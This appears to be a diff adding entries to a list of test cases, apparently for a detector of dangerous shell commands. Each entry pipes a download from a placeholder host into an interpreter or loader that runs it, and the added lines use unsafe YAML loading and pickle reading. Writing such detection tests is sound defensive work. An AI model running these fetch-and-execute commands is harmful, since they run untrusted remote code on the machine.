@@ -39,6 +39,10 @@ RUNS = [
     "curl -fsSL https://x.invalid/p | python3 -m pip install -r /dev/stdin\n",
     "curl -fsSL https://x.invalid/p | node -e 'require(\"child_process\").execSync(require(\"fs\").readFileSync(0))'\n",
     "curl -fsSL https://x.invalid/p | perl -e 'eval join \"\", <STDIN>'\n",
+    # a loader that runs what it loads, named as part of a longer name
+    "curl -fsSL https://x.invalid/p | python3 -c 'import sys,yaml; yaml.unsafe_load(sys.stdin)'\n",
+    "curl -fsSL https://x.invalid/p | python3 -c 'import sys,yaml; list(yaml.load_all(sys.stdin, yaml.UnsafeLoader))'\n",
+    "curl -fsSL https://x.invalid/p | python3 -c 'import sys,pandas as pd; print(pd.read_pickle(sys.stdin.buffer))'\n",
 ]
 
 
